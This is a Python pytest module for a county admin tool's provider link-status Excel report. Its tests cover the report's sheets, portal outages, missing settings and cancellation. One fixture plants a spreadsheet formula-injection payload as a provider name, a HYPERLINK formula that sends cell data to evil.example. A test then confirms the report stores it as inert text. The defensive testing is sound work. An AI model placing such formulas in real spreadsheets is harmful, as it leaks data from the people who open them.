"""The provider link status report against the demo sandbox over HTTP, read back from the saved file."""

from __future__ import annotations

import zipfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from countyadmin.db.unit_of_work import SqlAlchemyUnitOfWork
from countyadmin.portal.client import PortalClient
from countyadmin.sandbox import DEMO_API_KEY, DEMO_COUNTY_NAME
from countyadmin.sandbox.process import SandboxProcess
from countyadmin.services.demo import load_demo_dataset, seed_demo_database
from countyadmin.services.portal_work import PortalNotConfigured
from countyadmin.services.reports import LinkStatusReportService, ReportCancelled

UowFactory = Callable[[], SqlAlchemyUnitOfWork]
NOW = datetime(2026, 3, 2, 15, 0, tzinfo=UTC)
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture(scope="module")
def seeded_sandbox(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SandboxProcess]:
    """A demo sandbox of this module's own: other tests accept and cancel invitations on the shared one."""
    data_dir = tmp_path_factory.mktemp("report-sandbox")
    with SandboxProcess.start(data_dir, {DEMO_API_KEY: DEMO_COUNTY_NAME}, seed="demo") as process:
        yield process


@pytest.fixture
def dataset() -> dict[str, Any]:
    return load_demo_dataset()


@pytest.fixture
def county(uow_factory: UowFactory, dataset: dict[str, Any]) -> UowFactory:
    seed_demo_database(uow_factory, dataset, now=NOW)
    # A name written to attack whoever opens the report in Excel.
    with uow_factory() as uow:
        record = uow.providers.get(16)
        assert record is not None and record.portal_provider_id == "CP-000108"
        assert uow.providers.update(replace(record, name=EVIL), expected_version=record.version)
        uow.commit()
    return uow_factory


def _client(url: str) -> Callable[[], PortalClient]:
    return lambda: PortalClient(url, DEMO_API_KEY, max_attempts=1, timeout=(1.0, 5.0))


def _rows(path: Path, sheet: str) -> list[dict[str, Any]]:
    rows = list(openpyxl.load_workbook(path)[sheet].iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_every_provider_with_link_state_admin_users_and_pending_invitations(
    county: UowFactory, seeded_sandbox: SandboxProcess, dataset: dict[str, Any], tmp_path: Path
) -> None:
    progress: list[tuple[int, int]] = []
    service = LinkStatusReportService(county, _client(seeded_sandbox.url), workers=4, clock=lambda: NOW)
    summary = service.write_link_status(
        tmp_path / "link status.xlsx", progress=lambda done, total: progress.append((done, total))
    )

    entries = dataset["providers"]
    assert (summary.providers, summary.linked, summary.portal_problem) == (len(entries), 25, None)
    assert (
        summary.sentence
        == f"Saved the link status of {len(entries)} providers (25 linked) to link status.xlsx."
    )
    assert progress[-1] == (len(entries), len(entries))
    assert [done for done, _ in progress] == sorted(done for done, _ in progress)

    providers = {row["Provider #"]: row for row in _rows(summary.path, "Providers")}
    assert len(providers) == len(entries)
    for entry in entries:
        row = providers[int(entry["county_ref"])]
        assert row["SED Code"] == entry["county"]["sed_code"]  # text: leading zeros kept
        if entry["scenario"] == "linked":
            users = entry["portal"].get("admin_users", [])
            waiting = [i for i in entry["portal"].get("invitations", [])
                       if i["status"] == "pending" and i["sent_days_ago"] < 14]  # fmt: skip
            assert row["Link state"] == "Linked"
            assert row["CPSE Portal ID"] == entry["portal"]["id"]
            assert row["Admin users"] == len(users)
            assert row["Pending invitations"] == len(waiting)
            for user in users:
                assert user["email"] in (row["Admin user names"] or "")
            assert row["Note"] is None
        else:
            expected = (
                "Not linked yet (uses CPSE Portal)"
                if entry["county"]["uses_portal"]
                else "Not using CPSE Portal"
            )
            assert row["Link state"] == expected
            assert row["Admin users"] is None and row["CPSE Portal ID"] is None
    admin_rows = _rows(summary.path, "Admin users")
    assert len(admin_rows) == sum(
        len(e["portal"].get("admin_users", [])) for e in entries if e["scenario"] == "linked"
    )
    assert {row["CPSE Portal ID"] for row in _rows(summary.path, "Pending invitations")} == {
        "CP-000161",
        "CP-000226",
    }

    sheet = openpyxl.load_workbook(summary.path)["Providers"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:M{len(entries) + 1}"
    assert sheet.column_dimensions["D"].number_format == "@"


def test_a_formula_in_the_data_is_written_as_text(
    county: UowFactory, seeded_sandbox: SandboxProcess, tmp_path: Path
) -> None:
    service = LinkStatusReportService(county, _client(seeded_sandbox.url), clock=lambda: NOW)
    path = service.write_link_status(tmp_path / "report.xlsx").path

    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, name
    sheet = openpyxl.load_workbook(path)["Providers"]
    (cell,) = [row[1] for row in sheet.iter_rows(min_row=2) if row[0].value == 16]
    assert cell.value == EVIL and cell.data_type == "s" and cell.quotePrefix


def test_when_the_portal_is_down_the_report_still_writes_with_a_note_per_provider(
    county: UowFactory, tmp_path: Path
) -> None:
    closed = SandboxProcess.start(tmp_path / "gone", {DEMO_API_KEY: DEMO_COUNTY_NAME})
    url = closed.url
    closed.stop()  # nothing listens there any more
    service = LinkStatusReportService(county, _client(url), clock=lambda: NOW)
    summary = service.write_link_status(tmp_path / "report.xlsx")

    assert summary.portal_problem is not None
    assert "could not be asked about 25 of 25 linked providers" in summary.portal_problem
    assert "Save the report again when the portal can be reached" in summary.sentence
    linked = [row for row in _rows(summary.path, "Providers") if row["Link state"] == "Linked"]
    assert len(linked) == 25
    assert all(
        row["Note"].startswith("Admin users and invitations could not be read from CPSE Portal")
        for row in linked
    )
    assert all(row["Admin users"] is None for row in linked)  # unknown, not zero


def test_when_the_portal_is_not_set_up_the_report_says_so(county: UowFactory, tmp_path: Path) -> None:
    def not_configured() -> PortalClient:
        raise PortalNotConfigured("Set the CPSE Portal address and API key in Settings to look for matches.")

    summary = LinkStatusReportService(county, not_configured).write_link_status(tmp_path / "r.xlsx")

    assert summary.portal_problem is not None and "Settings" in summary.portal_problem
    assert summary.path.exists()


def test_cancel_writes_nothing(county: UowFactory, seeded_sandbox: SandboxProcess, tmp_path: Path) -> None:
    service = LinkStatusReportService(county, _client(seeded_sandbox.url), workers=2)
    asked: list[int] = []

    def cancelled() -> bool:
        asked.append(1)
        return len(asked) > 3

    with pytest.raises(ReportCancelled):
        service.write_link_status(tmp_path / "r.xlsx", cancelled=cancelled)
    assert not (tmp_path / "r.xlsx").exists()
